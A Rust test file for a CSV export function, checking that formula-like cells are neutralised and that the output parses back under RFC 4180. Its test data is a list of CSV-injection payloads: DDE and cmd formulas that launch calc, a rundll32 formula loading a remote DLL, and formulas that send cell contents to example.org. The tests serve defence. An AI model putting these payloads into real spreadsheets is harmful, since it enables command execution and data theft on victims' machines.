//! Tables as CSV files: read back by a parser of its own, and harmless in a spreadsheet.

use perennial::report::{Cell, Column, Formulas, Table, Unit, table_to_csv, texts_to_csv};

/// Texts that a spreadsheet runs as a formula, or that break careless CSV. Sources: OWASP "CSV Injection"; the payload
/// lists of PayloadsAllTheThings ("CSV Injection"); RFC 4180, section 2.
const PAYLOADS: [&str; 60] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "=HYPERLINK(\"http://example.org?leak=\"&A1,\"Error\")",
    "=IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")",
    "=IMPORTDATA(\"http://example.org/x.csv\")",
    "=IMPORTHTML(\"http://example.org\",\"table\",1)",
    "=IMPORTFEED(\"http://example.org\")",
    "=IMPORTRANGE(\"x\",\"A1\")",
    "=IMAGE(\"http://example.org/x.png\")",
    "=WEBSERVICE(\"http://example.org/\"&A1)",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
    "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=2+5+cmd|' /C calc'!A0",
    "=A1",
    "=$A$1",
    "=\"=\"",
    "==1",
    "=-1",
    "=+1",
    "=@A1",
    "+1",
    "+1+1",
    "+A1",
    "++1",
    "-1",
    "-1+1",
    "-A1",
    "--1",
    "@A1",
    "@SUM(A1:A9)",
    "@@",
    "=",
    "+",
    "-",
    "@",
    "\t=1+1",
    "\t",
    "\r=1+1",
    "\r\n=1+1",
    "\n=1+1",
    " =1+1",
    "  @SUM(1)",
    "\u{a0}=1+1",
    "\u{feff}=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "=1,2",
    "=\"a\"\"b\"",
    "=1\n=2",
];

/// A reader of RFC 4180, written apart from ours: records of cells.
fn read(csv: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let mut rest = csv;
    while !rest.is_empty() {
        let mut record = Vec::new();
        loop {
            let (cell, after) = read_cell(rest);
            record.push(cell);
            match after.strip_prefix(',') {
                Some(next) => rest = next,
                None => {
                    rest = after.strip_prefix("\r\n").expect("every record ends in CR LF");
                    break;
                }
            }
        }
        records.push(record);
    }
    records
}

fn read_cell(text: &str) -> (String, &str) {
    let Some(mut quoted) = text.strip_prefix('"') else {
        let end = text.find([',', '\r', '\n']).unwrap_or(text.len());
        assert!(!text[..end].contains('"'), "a quote in a bare cell");
        return (text[..end].to_owned(), &text[end..]);
    };
    let mut cell = String::new();
    loop {
        let end = quoted.find('"').expect("a quoted cell is closed");
        cell.push_str(&quoted[..end]);
        quoted = &quoted[end + 1..];
        match quoted.strip_prefix('"') {
            Some(next) => {
                cell.push('"');
                quoted = next;
            }
            None => return (cell, quoted),
        }
    }
}

fn table(cells: Vec<Vec<Cell>>) -> Table {
    let width = cells.first().map_or(0, Vec::len);
    let columns = (0..width).map(|at| Column { id: format!("c{at}"), label: "C".into(), unit: Unit::Text }).collect();
    Table { id: "t".into(), title: "T".into(), total_rows: cells.len() as u64, first_row: 0, columns, rows: cells }
}

#[test]
fn no_payload_starts_like_a_formula_and_raw_text_comes_back() {
    let cells = || PAYLOADS.iter().map(|payload| vec![Cell::Text((*payload).into()), Cell::Text("x".into())]).collect();
    let neutralised = read(&table_to_csv(&table(cells()), Formulas::Neutralised));
    let raw = read(&table_to_csv(&table(cells()), Formulas::Raw));
    assert_eq!((neutralised.len(), raw.len()), (61, 61));
    for ((payload, safe), raw) in PAYLOADS.iter().zip(&neutralised[1..]).zip(&raw[1..]) {
        assert_eq!(safe[0], format!("'{payload}"), "{payload:?}");
        assert_eq!(raw[0], *payload);
        assert_eq!(safe[1], "x");
    }
}

#[test]
fn harmless_texts_and_all_numbers_stay_as_they_are() {
    let texts =
        ["", "a", "O'Brien", "a=b", "1-2", "m@example.org", "12", " padded ", "سلام", "a,b", "a\"b", "a\nb", "'"];
    let cells = texts.iter().map(|text| vec![Cell::Text((*text).into()), Cell::Nothing]).collect();
    let back = read(&table_to_csv(&table(cells), Formulas::Neutralised));
    assert_eq!(back[1..].iter().map(|row| row[0].as_str()).collect::<Vec<_>>(), texts);
    let numbers = vec![
        vec![Cell::Count(-3), Cell::Number(-0.1)],
        vec![Cell::Number(1e21), Cell::Number(0.1 + 0.2)],
        vec![Cell::Flag(true), Cell::Number(f64::NAN)],
    ];
    let csv = table_to_csv(&table(numbers), Formulas::Neutralised);
    assert_eq!(csv, "c0,c1\r\n-3,-0.1\r\n1000000000000000000000,0.30000000000000004\r\ntrue,\r\n");
}

#[test]
fn rows_set_aside_are_written_alike() {
    let rows = [vec!["line".to_owned(), "cell".to_owned()], vec!["7".to_owned(), "=1+1".to_owned()]];
    let csv = texts_to_csv(rows.iter().map(Vec::as_slice), Formulas::Neutralised);
    assert_eq!(read(&csv), [["line", "cell"], ["7", "'=1+1"]]);
    assert_eq!(texts_to_csv([&[String::new()][..]], Formulas::Raw), "\"\"\r\n");
}
